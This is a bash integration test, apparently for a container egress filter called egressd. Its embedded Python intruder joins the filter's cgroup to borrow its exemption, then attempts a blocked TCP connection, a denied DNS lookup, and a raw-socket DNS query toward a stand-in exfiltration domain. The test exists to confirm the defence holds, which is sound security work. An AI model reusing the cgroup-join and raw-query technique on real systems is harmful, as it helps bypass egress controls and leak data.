#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# docs/security.md, class 4: a root workload with Docker's default capabilities
# that can write the cgroup filesystem joins egressd's cgroup
# (echo $$ > <egressd's cgroup>/cgroup.procs) to borrow its exemption.
# In the sidecar topology:
#   host    BPF covers the namespace and exempts egressd by the cookies of
#           its own sockets: the intruder is judged like the workload
#           (blocked host blocked, denied name redirected and refused, a
#           raw query straight to the upstream dropped), and egressd keeps
#           resolving allowed names.
#   nohost  nftables alone, whose exemption is by cgroup: egressd sees the
#           write to its cgroup.procs at once (and scans every second for
#           the rest) and withdraws the exemption (fail closed), saying so,
#           even for an intruder already gone; after that the intruder's
#           packets are dropped and logged.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/sidecar.sh"
sidecar_init

# The workload as root with Docker's default capabilities (no NET_ADMIN).
DOCKER_CAPS=-all,+chown,+dac_override,+fowner,+fsetid,+kill,+setgid,+setuid,+setpcap,+net_bind_service,+net_raw,+sys_chroot,+mknod,+audit_write,+setfcap
root_workload() {
	run_workload setpriv --bounding-set="$DOCKER_CAPS" --inh-caps=-all -- "$@"
}

# intrude CGDIR OUT: from the workload, join CGDIR, wait 1.5 s (egressd
# scans every second), then try a blocked host (TCP), a denied name
# straight to the upstream (dig, UDP) and a raw-socket query to it.
intrude() {
	root_workload "$PY" - "$1" "10.200.$X.81" "$DNS4" >"$2" 2>&1 <<'PY'
import os, socket, struct, subprocess, sys, time
from dnslib import DNSRecord
cg, blocked, dns = sys.argv[1:4]
with open(cg + "/cgroup.procs", "w") as f:
    f.write(str(os.getpid()))
print("joined", open("/proc/self/cgroup").read().strip())
sys.stdout.flush()
time.sleep(1.5)
t = socket.socket()
t.settimeout(2)
try:
    t.connect((blocked, 80))
    print("tcp connected")
except OSError as e:
    print("tcp blocked", e)
r = subprocess.run(["dig", "+tries=1", "+time=2", "@" + dns, "evil.example.com"],
                   capture_output=True, text=True).stdout
print("dns", "NXDOMAIN" if "NXDOMAIN" in r else
      "NOERROR" if "NOERROR" in r else "none")
q = DNSRecord.question("raw-join.exfil.attacker.net").pack()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
try:
    s.sendto(struct.pack("!HHHH", 40001, 53, 8 + len(q), 0) + q, (dns, 0))
    print("raw sent")
except OSError as e:
    print("raw refused", e)
PY
}

start_upstream
start_servers web tcp:"$WEB4":80 tcp:10.200.$X.81:80

# ---- BPF: the exemption is egressd's sockets' ------------------------------
start_egressd_sidecar host --mode dns+nft --rules "$POLICY" ||
	die "host: egressd exited with status $SC_RC: $(cat "$T/egressd.err")"
assert_eq "host: coverage namespace" namespace \
	"$(json_field "$T/egressd.out" start coverage.state)"
assert_eq "host: BPF exempts egressd by socket" socket "$(status_field exemption.bpf)"
agent_dir=$CG/agent/egressd
[ -d "$agent_dir" ] || agent_dir=$CG/agent
q @"$DNS4" api.github.com
assert_eq "host: allowed name resolves" "$WEB4" "$Q_ANSWER"

intrude "$agent_dir" "$T/intruder-host.out"
out=$(cat "$T/intruder-host.out")
assert_contains "host: the workload joined egressd's cgroup" "$out" "joined"
assert_contains "host: intruder's TCP to a blocked host is blocked" "$out" "tcp blocked"
assert_contains "host: intruder's query for a denied name is refused" "$out" "dns NXDOMAIN"
sleep 0.3
assert_not_forwarded "host: denied name never at the upstream" evil.example.com
assert_not_forwarded "host: intruder's raw query never at the upstream" raw-join.exfil.attacker.net
if server_got web "tcp 10.200.$X.81 80"; then
	fail "host: no connection reached the blocked host" "$(cat "$T/servers-web.log")"
else
	pass "host: no connection reached the blocked host"
fi
wait_json_line "host: packet violation line for the intruder" "$T/egressd.out" \
	event=violation layer=packet dst=10.200.$X.81 dport=80
wait_json_line "host: DNS violation line for the intruder" "$T/egressd.out" \
	event=violation layer=dns qname~=evil.example.com
assert_contains "host: egressd says a foreign process is in its cgroup" \
	"$(grep '"event":"warning"' "$T/egressd.out")" "BPF exempts egressd's own sockets only"
# egressd's own exemption is intact: a name it has not asked before.
q @"$DNS4" files.pypi.org
assert_eq "host: egressd still reaches its upstream (allowed name)" "10.200.$X.82" "$Q_ANSWER"
assert_connects "host: learned address reachable" "$WEB4" 80

stop_egressd
nsenter --net="/run/netns/$SB" -- "$EGRESSD" --cleanup >/dev/null 2>"$T/cleanup.err" ||
	die "--cleanup: $(cat "$T/cleanup.err")"

# ---- nftables alone: the cgroup's exemption is withdrawn -------------------
start_egressd_sidecar nohost --mode dns+nft --rules "$POLICY" ||
	die "nohost: egressd exited with status $SC_RC: $(cat "$T/egressd.err")"
assert_eq "nohost: coverage none" none \
	"$(json_field "$T/egressd.out" start coverage.state)"
assert_eq "nohost: nftables exempts egressd's cgroup" cgroup "$(status_field exemption.nft)"
q @"$DNS4" api.github.com
assert_eq "nohost: allowed name resolves" "$WEB4" "$Q_ANSWER"
: >"$T/fakedns-up.log"
agent_dir=$CG/agent/egressd
[ -d "$agent_dir" ] || agent_dir=$CG/agent
# An intruder that joins and is gone at once, long before the next scan:
# the write to cgroup.procs alone gives it away. Whether egressd reads the
# file before the pid is in, while the intruder is there or after it left,
# the warning says the write (and the pid when it found one) and the
# exemption goes; a binary with the scan alone misses it.
root_workload sh -c 'echo $$ > "$1/cgroup.procs"' sh "$agent_dir"
if wait_for 1 grep -q "was moved into egressd's cgroup.*nftables no longer exempts that cgroup (fail closed)" \
	"$T/egressd.out"; then
	pass "nohost: an intruder gone within a second is still seen (cgroup.procs written)"
else
	fail "nohost: an intruder gone within a second is still seen" \
		"$(grep '"event":"warning"' "$T/egressd.out" | tail -2)"
fi
assert_eq "nohost: /status says withdrawn after the quick intruder" withdrawn \
	"$(status_field exemption.nft)"
intrude "$agent_dir" "$T/intruder-nohost.out"
out=$(cat "$T/intruder-nohost.out")
assert_contains "nohost: the workload joined egressd's cgroup" "$out" "joined"
assert_contains "nohost: egressd withdraws the exemption and says so" \
	"$(grep '"event":"warning"' "$T/egressd.out")" "nftables no longer exempts that cgroup (fail closed)"
assert_eq "nohost: /status says withdrawn" withdrawn "$(status_field exemption.nft)"
assert_contains "nohost: intruder's TCP to a blocked host is blocked" "$out" "tcp blocked"
sleep 0.3
assert_not_forwarded "nohost: denied name never at the upstream" evil.example.com
assert_not_forwarded "nohost: intruder's raw query never at the upstream" raw-join.exfil.attacker.net
wait_json_line "nohost: packet violation line for the intruder's port-53 query" "$T/egressd.out" \
	event=violation layer=packet dst="$DNS4" dport=53
wait_json_line "nohost: packet violation line for the intruder's TCP" "$T/egressd.out" \
	event=violation layer=packet dst=10.200.$X.81 dport=80
assert_connects "nohost: the workload's allowed path still works" "$WEB4" 80
stop_egressd
egit_finish
